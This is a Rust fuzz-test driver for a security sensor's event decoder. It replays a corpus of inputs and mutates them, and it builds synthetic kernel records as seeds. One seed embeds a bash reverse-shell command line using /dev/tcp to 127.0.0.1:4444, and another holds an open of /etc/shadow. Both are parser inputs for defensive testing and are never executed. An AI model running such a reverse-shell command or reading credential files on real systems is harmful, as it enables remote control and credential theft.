//! Stable-toolchain fuzz driver: replays `fuzz/corpus/<target>/` through the same target bodies
//! cargo-fuzz runs (`fuzz/targets.rs`), then mutates corpus entries (xorshift: bit flips,
//! boundary values, splices, truncation, duplication) for a bounded time.
//!
//! The real fuzzing is cargo-fuzz's (coverage-guided, AddressSanitizer), which `./x test` runs
//! for `FUZZ_SECONDS` per target. This test stays as the corpus regression check of every
//! plain `cargo test` (seconds, no nightly flags, no sanitizer build), the generator of the
//! decoder seeds, and a mutator for machines without cargo-fuzz.
//!
//! `FUZZ_STABLE_SECONDS` is the mutation budget over all targets (default 3);
//! `FUZZ_SEED` fixes the mutator's seed (printed on failure, so a failure reproduces);
//! `FUZZ_WRITE_SEEDS=1` (re)writes the generated decoder seeds into the corpus directory.
//! A panicking input is written to `target/fuzz-crashes/<target>-<hash>` for `cargo fuzz run`.

#[path = "../../fuzz/targets.rs"]
mod targets;

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash as _, Hasher as _};
use std::mem::{offset_of, size_of};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use sensor_common::{
    AF_INET, AF_INET6, EXEC_DATA_OFFSET, EventHeader, EventKind, ExecRecord, ExitRecord,
    ForkRecord, NetRecord, OpenArgs, OpenRecord,
};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

const INTERESTING: [u32; 10] = [
    0,
    1,
    0x7f,
    0x80,
    0xff,
    0x100,
    0xffff,
    0x7fff_ffff,
    0x8000_0000,
    u32::MAX,
];

/// One mutation of `input` (sometimes spliced with `other`).
fn mutate(rng: &mut XorShift, input: &[u8], other: &[u8]) -> Vec<u8> {
    let mut out = input.to_vec();
    for _ in 0..=rng.below(4) {
        let len = out.len();
        match rng.below(8) {
            0 if len > 0 => {
                let at = rng.below(len);
                out[at] ^= 1 << rng.below(8);
            }
            1 if len > 0 => {
                let at = rng.below(len);
                out[at] = rng.next() as u8;
            }
            2 if len >= 4 => {
                // Length and offset fields are u32s: boundary values find off-by-ones.
                let at = rng.below(len - 3) & !3;
                let v = INTERESTING[rng.below(INTERESTING.len())].to_ne_bytes();
                out[at..at + 4].copy_from_slice(&v);
            }
            3 => out.truncate(rng.below(len + 1)),
            4 if !other.is_empty() => {
                let at = rng.below(len + 1);
                let from = rng.below(other.len());
                let n = rng.below(other.len() - from + 1).min(4096);
                let chunk: Vec<u8> = other[from..from + n].to_vec();
                out.splice(at..at, chunk);
            }
            5 if len > 0 => {
                let from = rng.below(len);
                let n = rng.below((len - from).min(256) + 1);
                let chunk: Vec<u8> = out[from..from + n].to_vec();
                out.splice(from..from, chunk);
            }
            6 => {
                let at = rng.below(len + 1);
                let hostile: &[&[u8]] = &[
                    b"\n",
                    b"\x1b[31m",
                    b"\xff\xfe",
                    b"\0",
                    b"\"",
                    b"\\",
                    b"\r\n{",
                    "\u{202e}".as_bytes(),
                ];
                out.splice(at..at, hostile[rng.below(hostile.len())].iter().copied());
            }
            _ if len > 1 => {
                let (a, b) = (rng.below(len), rng.below(len));
                out.swap(a, b);
            }
            _ => out.push(rng.next() as u8),
        }
    }
    out
}

fn put_u32(buf: &mut [u8], at: usize, v: u32) {
    buf[at..at + 4].copy_from_slice(&v.to_ne_bytes());
}

fn record<T>(kind: EventKind) -> Vec<u8> {
    let mut buf = vec![0u8; size_of::<T>()];
    put_u32(&mut buf, offset_of!(EventHeader, kind), kind as u32);
    let len = buf.len() as u32;
    put_u32(&mut buf, offset_of!(EventHeader, size), len);
    put_u32(&mut buf, offset_of!(EventHeader, pid), 4242);
    buf[offset_of!(EventHeader, comm)..][..4].copy_from_slice(b"bash");
    buf
}

/// Well-formed kernel records of every kind, built from the `sensor-common` layouts.
fn decoder_seeds() -> Vec<(String, Vec<u8>)> {
    let mut seeds = Vec::new();
    let argv = b"bash\0-c\0exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\0";
    let mut exec = record::<ExecRecord>(EventKind::Exec);
    exec.truncate(EXEC_DATA_OFFSET);
    put_u32(&mut exec, offset_of!(ExecRecord, argc), 3);
    put_u32(&mut exec, offset_of!(ExecRecord, name_len), 9);
    put_u32(
        &mut exec,
        offset_of!(ExecRecord, argv_len),
        argv.len() as u32,
    );
    exec[offset_of!(ExecRecord, stdio)..][..3].copy_from_slice(&[1, 1, 1]);
    exec.extend_from_slice(b"/bin/bash");
    exec.extend_from_slice(argv);
    let len = exec.len() as u32;
    put_u32(&mut exec, offset_of!(EventHeader, size), len);
    seeds.push(("exec".to_string(), exec));

    let mut v4 = record::<NetRecord>(EventKind::Connect);
    v4[offset_of!(NetRecord, family)..][..2].copy_from_slice(&AF_INET.to_ne_bytes());
    v4[offset_of!(NetRecord, protocol)..][..2].copy_from_slice(&6u16.to_ne_bytes());
    v4[offset_of!(NetRecord, remote_port)..][..2].copy_from_slice(&4444u16.to_ne_bytes());
    v4[offset_of!(NetRecord, remote_addr)..][..4].copy_from_slice(&[127, 0, 0, 1]);
    seeds.push(("connect-v4".to_string(), v4));
    let mut v6 = record::<NetRecord>(EventKind::Accept);
    v6[offset_of!(NetRecord, family)..][..2].copy_from_slice(&AF_INET6.to_ne_bytes());
    v6[offset_of!(NetRecord, remote_addr) + 15] = 1;
    seeds.push(("accept-v6".to_string(), v6));

    let mut open = record::<OpenRecord>(EventKind::Open);
    let oa = offset_of!(OpenRecord, args);
    put_u32(&mut open, oa + offset_of!(OpenArgs, path_len), 11);
    put_u32(&mut open, oa + offset_of!(OpenArgs, dfd), (-100i32) as u32);
    open[oa + offset_of!(OpenArgs, path)..][..11].copy_from_slice(b"/etc/shadow");
    seeds.push(("open".to_string(), open));

    let mut fork = record::<ForkRecord>(EventKind::Fork);
    put_u32(&mut fork, offset_of!(ForkRecord, child_pid), 4243);
    seeds.push(("fork".to_string(), fork));
    seeds.push(("exit".to_string(), record::<ExitRecord>(EventKind::Exit)));
    seeds
}

fn corpus(target: &str) -> Vec<Vec<u8>> {
    let dir = root().join("fuzz/corpus").join(target);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default();
    files.sort();
    let mut inputs: Vec<Vec<u8>> = files.iter().filter_map(|f| std::fs::read(f).ok()).collect();
    if target == "decode" {
        inputs.extend(decoder_seeds().into_iter().map(|(_, bytes)| bytes));
    }
    inputs
}

fn hash(bytes: &[u8]) -> u64 {
    let mut h = DefaultHasher::new();
    bytes.hash(&mut h);
    h.finish()
}

/// Runs `body` on `input`; on a panic saves the input and fails with where to find it.
fn run_one(name: &str, body: fn(&[u8]), input: &[u8], seed: u64) {
    if std::panic::catch_unwind(|| body(input)).is_err() {
        let dir = root().join("target/fuzz-crashes");
        let _ = std::fs::create_dir_all(&dir);
        let path = dir.join(format!("{name}-{:016x}", hash(input)));
        let _ = std::fs::write(&path, input);
        panic!(
            "fuzz target {name} panicked (FUZZ_SEED={seed}); input saved to {}",
            path.display()
        );
    }
}

#[test]
fn fuzz_targets_replay_corpus_and_mutate() {
    if std::env::var_os("FUZZ_WRITE_SEEDS").is_some() {
        let dir = root().join("fuzz/corpus/decode");
        std::fs::create_dir_all(&dir).expect("corpus dir");
        for (name, bytes) in decoder_seeds() {
            std::fs::write(dir.join(format!("seed-{name}")), bytes).expect("write seed");
        }
    }
    let total: f64 = std::env::var("FUZZ_STABLE_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3.0);
    let seed: u64 = std::env::var("FUZZ_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(1, |d| d.as_nanos() as u64)
                | 1
        });
    let per_target = Duration::from_secs_f64(total / targets::TARGETS.len() as f64);
    // Panics are expected to be caught and reported by run_one, not printed once per input.
    std::panic::set_hook(Box::new(|_| {}));
    for (name, body) in targets::TARGETS {
        let inputs = corpus(name);
        assert!(!inputs.is_empty(), "fuzz/corpus/{name} is empty");
        for input in &inputs {
            run_one(name, body, input, seed);
        }
        let mut rng = XorShift(seed ^ hash(name.as_bytes()) | 1);
        let started = Instant::now();
        let mut runs = 0u64;
        while started.elapsed() < per_target {
            let a = &inputs[rng.below(inputs.len())];
            let b = &inputs[rng.below(inputs.len())];
            let input = mutate(&mut rng, a, b);
            run_one(name, body, &input, seed);
            runs += 1;
        }
        let _ = std::panic::take_hook();
        eprintln!(
            "fuzz {name}: {} corpus inputs, {runs} mutated runs in {:?} (FUZZ_SEED={seed})",
            inputs.len(),
            started.elapsed()
        );
        std::panic::set_hook(Box::new(|_| {}));
    }
    let _ = std::panic::take_hook();
}
